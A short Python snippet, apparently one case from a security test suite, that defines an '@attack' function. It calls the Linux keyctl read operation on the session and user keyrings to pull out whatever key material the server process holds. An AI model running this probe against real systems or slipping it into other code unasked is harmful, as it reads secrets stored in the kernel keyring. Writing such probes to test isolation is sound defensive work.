from attack import *

@attack
def read():
    """Asks for the keys of the session that the server was started in."""
    buffer = ctypes.create_string_buffer(4096)
    found = []
    for ring in (-3, -4, -5):
        try:
            found.append(f"{ring}:{syscall('keyctl', 11, ring, buffer, 4096, 0)}")
        except OSError:
            pass
    return " ".join(found)
